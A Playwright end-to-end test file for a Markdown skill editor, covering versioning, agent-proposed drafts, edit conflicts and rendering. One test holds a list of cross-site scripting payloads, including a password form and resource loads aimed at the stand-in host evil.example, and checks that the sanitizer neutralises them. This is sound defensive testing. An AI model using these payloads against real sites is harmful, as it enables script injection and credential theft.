// A skill from the first word to the second version; and untrusted Markdown, which never becomes more than text.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Dailies } from '@dailies/sdk'
import type { Page } from 'playwright-core'
import { connect } from '../../server/test/helpers/mcp-client.ts'
import { choose } from './controls.ts'
import { needsBrowser, startApp } from './start-app.ts'

const app = await startApp()
const { world } = app
const writer = await world.person({ name: 'Wim' })
const client = new Dailies({ baseUrl: world.url, token: writer.key })

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true })
const area = (page: Page) => page.getByLabel('Text, in Markdown')
const preview = (page: Page) => page.getByRole('region', { name: 'Preview' })

test(
  'a skill is created, written, published twice, compared, and its default is reset',
  needsBrowser,
  async () => {
    const page = await app.open('/skills', { user: writer })
    await page.getByText('No skills yet').waitFor()
    await button(page, 'New skill').click()
    const dialog = page.getByRole('dialog')
    await dialog.getByLabel('Name').fill('Review notes')
    await dialog.getByLabel('Description').fill('How to write notes on a cut.')
    await dialog.getByLabel('Allowed tools').fill('list_files\nget_file')
    await dialog.getByLabel('Metadata').fill('no colon')
    assert.ok(await button(page, 'Create').isDisabled())
    await dialog.getByLabel('Metadata').fill('department: editorial')
    await button(page, 'Create').click()

    await area(page).fill('# Notes\n\nOne thing per comment.\n\n- [x] Name the frame\n- [ ] Praise')
    await preview(page).getByRole('heading', { name: 'Notes' }).waitFor()
    await preview(page).getByText('☑ Name the frame').waitFor()
    await page.getByText(/^10 words/).waitFor()
    await area(page).press('Control+s')
    await page.getByText('Draft saved in this browser.', { exact: true }).waitFor()
    await page.reload()
    assert.match(await area(page).inputValue(), /One thing per comment/)
    await button(page, 'Publish…').click()
    await dialog.getByLabel('Note').fill('The first one')
    await button(page, 'Publish').click()
    await page.getByText('Version 1 published.').waitFor()
    await page.getByRole('complementary').getByText('editorial').waitFor()

    await page.getByRole('link', { name: 'Edit text' }).click()
    await area(page).fill('# Notes\n\nOne point per comment.\n\n- [x] Name the frame\n- [ ] Praise\n- Stop')
    await button(page, 'Publish…').click()
    await dialog.getByText('Since version 1: 2 lines added, 1 removed').waitFor()
    await dialog.getByLabel('Make default').uncheck()
    await button(page, 'Publish').click()
    await page.getByText('Version 2 published.').waitFor()
    await area(page).waitFor({ state: 'detached' })
    await page.getByText('One point per comment.').waitFor()

    await page.getByRole('link', { name: 'Compare versions' }).click()
    const changes = page.getByRole('region', { name: 'Changes' })
    const marks = changes.locator('mark')
    await marks.first().waitFor()
    assert.deepEqual(await marks.allTextContents(), ['thing', 'point'])
    assert.equal(await changes.locator('[data-kind=added]').count(), 2)
    await choose(page.getByRole('combobox', { name: 'To' }), 'Version 1: The first one')
    await page.getByText('The texts are the same.').waitFor()

    await page.getByRole('link', { name: 'Review notes' }).click()
    await button(page, 'More for version 2').click()
    await page.getByRole('menuitem', { name: 'Make default' }).click()
    await page.getByText('Version 2 is now the default.').waitFor()
    const defaultNumber = async () => {
      const [skill] = await client.skills.list()
      return skill!.versions.find(({ id }) => id === skill!.default?.id)?.version
    }
    assert.equal(await defaultNumber(), 2)
    await button(page, 'Undo').click()
    await page.getByText('Version 1 is now the default.').waitFor()
    assert.equal(await defaultNumber(), 1)
    await button(page, 'More for version 2').click()
    await page.getByRole('menuitem', { name: 'Delete' }).click()
    await button(page, 'Delete version').click()
    await page.getByText('Version 2 deleted.').waitFor()
    await button(page, 'Delete').click()
    await button(page, 'Delete skill').click()
    await page.getByText('No skills yet').waitFor()
  },
)

test('a draft and new details by an agent are shown, compared and published', needsBrowser, async () => {
  const { id } = await client.skills.create({ name: 'Grading', description: 'Ours', content: 'one\n' })
  const agent = await connect(world.url, writer.key)
  await agent.callTool({ name: 'publish_skill_version', arguments: { skillId: id, content: 'one\ntwo\n' } })
  await agent.callTool({ name: 'update_skill', arguments: { skillId: id, description: 'Theirs' } })

  const page = await app.open('/skills', { user: writer })
  await page.getByText('Draft by an agent', { exact: true }).waitFor()
  await page.getByText('Proposed details', { exact: true }).waitFor()
  await page.getByRole('link', { name: 'Grading' }).click()
  const proposed = page.getByRole('region', { name: 'Proposed changes' })
  await proposed.getByText('An agent proposes changes for Wim').waitFor()
  await proposed.getByText('Theirs').waitFor()
  await button(page, 'Reject').click()
  await page.getByText('Changes rejected.').waitFor()
  await proposed.waitFor({ state: 'detached' })

  await page.getByRole('link', { name: 'Version 2' }).click()
  const draft = page.getByRole('region', { name: 'Draft' })
  await draft.getByText(/By an agent for Wim/).waitFor()
  await draft.getByRole('link', { name: 'Compare with the default' }).click()
  await page.getByText('1 line added, 0 removed').waitFor()
  await page.goBack()
  await button(page, 'Publish').click()
  await page.getByText('Version 2 is published, and the default now.').waitFor()
  await draft.waitFor({ state: 'detached' })
  const skill = await client.skills.get(id)
  const { default: used, description } = skill
  assert.deepEqual([used?.id, description], [skill.versions[1]?.id, 'Ours'])

  // A draft that nobody wants.
  await agent.callTool({ name: 'publish_skill_version', arguments: { skillId: id, content: 'three\n' } })
  await agent.close()
  await page.goto(`/skills/${id}?version=3`)
  await draft.getByRole('button', { name: 'Delete…' }).click()
  await button(page, 'Delete version').click()
  await page.getByText('Version 3 deleted.').waitFor()
  await draft.waitFor({ state: 'detached' })
  assert.equal((await client.skills.get(id)).versions.length, 2)
  await client.skills.delete(id)
})

test('a concurrent publish is not overwritten, and no text is lost', needsBrowser, async () => {
  const { id } = await client.skills.create({ name: 'Shared', description: 'Ours', content: 'one\n' })
  const page = await app.open(`/skills/${id}`, { user: writer, allow: [/status of 412/] })
  await button(page, 'Details').click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel('Description').fill('Mine')
  await client.skills.update(id, { description: 'Theirs' })
  await button(page, 'Save').click()
  await dialog.getByText('Somebody else changed this skill in the meantime.').waitFor()
  await dialog.getByText('Theirs: Theirs').waitFor()
  assert.equal(await dialog.getByLabel('Description').inputValue(), 'Mine')
  assert.equal((await client.skills.get(id)).description, 'Theirs')
  await button(page, 'Save mine').click()
  await page.getByText('Skill saved.').waitFor()
  assert.equal((await client.skills.get(id)).description, 'Mine')

  await page.getByRole('link', { name: 'Edit text' }).click()
  await area(page).fill('one\nmine\n')
  await client.skillVersions.publish(id, { content: 'one\ntheirs\n' })
  await button(page, 'Publish…').click()
  await button(page, 'Publish').click()
  await dialog.getByText('Version 2 was published while you wrote.').waitFor()
  assert.deepEqual(await dialog.locator('[data-kind=removed], [data-kind=added]').allTextContents(), [
    '2−Removed: theirs',
    '2+Added: mine',
  ])
  await button(page, 'Publish mine as version 3').click()
  await page.getByText('Version 3 published.').waitFor()
  assert.deepEqual(
    (await client.skills.get(id)).versions.map(({ version }) => version),
    [1, 2, 3],
  )
})

test('the editor: Tab indents, Escape and Tab leave it, and typing can be undone', needsBrowser, async () => {
  const { id } = await client.skills.create({ name: 'Typing', description: 'x', content: 'a\nb' })
  const page = await app.open(`/skills/${id}?edit=true`, { user: writer })
  await area(page).press('Control+a')
  await area(page).press('Tab')
  assert.equal(await area(page).inputValue(), '  a\n  b')
  await area(page).press('Shift+Tab')
  assert.equal(await area(page).inputValue(), 'a\nb')
  await area(page).press('Control+z')
  assert.equal(await area(page).inputValue(), '  a\n  b')
  await area(page).press('Escape')
  await area(page).press('Tab')
  assert.ok(await preview(page).evaluate((element) => element === document.activeElement))
  await button(page, 'Discard').click()
  assert.equal(await area(page).inputValue(), 'a\nb')
  await page.reload()
  assert.equal(await area(page).inputValue(), 'a\nb')
})

const hostile = [
  '<script>window.ran = 1</script>',
  '<img src=x onerror="window.ran = 1">',
  '<svg onload="window.ran = 1"><a xlink:href="javascript:window.ran=1"><text y="9">x</text></a></svg>',
  '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<a href="javascript:window.ran=1">x</a>',
  '[x](javascript:window.ran=1)',
  '[x](JaVaScRiPt:window.ran=1)',
  '[x](javascript&colon;window.ran=1)',
  '[x](&#106;avascript:window.ran=1)',
  '[x](java\\nscript:window.ran=1)',
  '[x](<java\tscript:window.ran=1>)',
  '[x](data:text/html,<script>parent.ran=1</script>)',
  '[x](vbscript:window.ran=1)',
  '[x](//evil.example)',
  '![x](x" onerror="window.ran=1)',
  '![x](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[x]: javascript:window.ran=1\n\n[x]',
  '<javascript:window.ran=1>',
  '[x](https://example.com/" onmouseover="window.ran=1)',
  '[x](https://example.com \'" onmouseover="window.ran=1\')',
  '```"><img src=x onerror="window.ran=1">\ncode\n```',
  '| a |\n|:-:|\n| <img src=x onerror="window.ran=1"> |',
  '# <b onclick="window.ran=1">x</b>',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '`<script>window.ran=1</script>`',
  '<math><mtext></table></math><img src=x onerror="window.ran=1">',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
]

test('untrusted Markdown runs nothing, loads nothing and has only safe links', needsBrowser, async () => {
  const { id } = await client.skills.create({
    name: '<img src=x onerror="window.ran=1">',
    description: '"><script>window.ran=1</script>',
    content: 'calm',
    note: '<svg onload="window.ran=1">',
  })
  const page = await app.open(`/skills/${id}?edit=true`, { user: writer })
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  for (const payload of [...hostile, hostile.join('\n\n')]) {
    await area(page).fill(`${payload}\n\nend of it`)
    await preview(page).getByText('end of it').waitFor()
    const found = await preview(page).evaluate((element) => ({
      ran: (globalThis as { ran?: unknown }).ran,
      tags: [...new Set([...element.querySelectorAll('*')].map(({ tagName }) => tagName.toLowerCase()))],
      handlers: [...element.querySelectorAll('*')].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style' || name === 'src'),
      ),
      links: [...element.querySelectorAll('a')].map(({ protocol, target, rel }) => [protocol, target, rel]),
    }))
    assert.equal(found.ran, undefined, payload)
    assert.deepEqual(found.handlers, [], payload)
    const harmless = 'div p h2 pre code table thead tbody tr th td a span em strong ul ol li br hr blockquote'
    for (const tag of found.tags) assert.ok(harmless.split(' ').includes(tag), `${payload}: ${tag}`)
    for (const link of found.links) assert.deepEqual(link, ['https:', '_blank', 'noopener nofollow'], payload)
  }
  assert.deepEqual(
    asked.filter((url) => !url.startsWith(app.origin)),
    [],
  )
  await page.goto(`/skills/${id}`)
  await page.getByText('calm').waitFor()
  assert.equal(await page.evaluate(() => (globalThis as { ran?: unknown }).ran), undefined)
})

test('Markdown is rendered: headings, tables, lists, code, links and quotes', needsBrowser, async () => {
  const content = [
    '# Title',
    '## Part',
    'A [link](https://example.com/a?b=c&d=e "Title"), <me@example.com> is text, https://example.org bare; foo.md not.',
    '| left | right |\n|---|--:|\n| 1 | 2 |',
    '1. one\n   - two\n\n> quote',
    '```ts\nconst a = "<b>"\n```',
    '~~gone~~ **bold** *leaning*',
  ].join('\n\n')
  const { id } = await client.skills.create({ name: 'Everything', description: 'x', content })
  const reader = await world.person({ role: 'GUEST' })
  const page = await app.open(`/skills/${id}`, { user: reader, theme: 'light' })
  await page.getByRole('heading', { name: 'Title', level: 2 }).waitFor()
  await page.getByRole('heading', { name: 'Part', level: 3 }).waitFor()
  const links = page.locator('main a[target=_blank]')
  assert.deepEqual(await links.evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href)), [
    'https://example.com/a?b=c&d=e',
    'mailto:me@example.com',
    'https://example.org/',
  ])
  assert.equal(await page.locator('td[align=right]').textContent(), '2')
  assert.equal(await page.locator('pre code').textContent(), 'const a = "<b>"\n')
  assert.equal(await page.locator('ol ul li').textContent(), 'two')
  // Guests of the workspace can only read.
  await page.getByText('Read only.').waitFor()
  assert.equal(await button(page, 'Details').count(), 0)
  await page.goto('/skills')
  await page.getByRole('heading', { name: 'Skills' }).waitFor()
  assert.equal(await button(page, 'New skill').count(), 0)
})
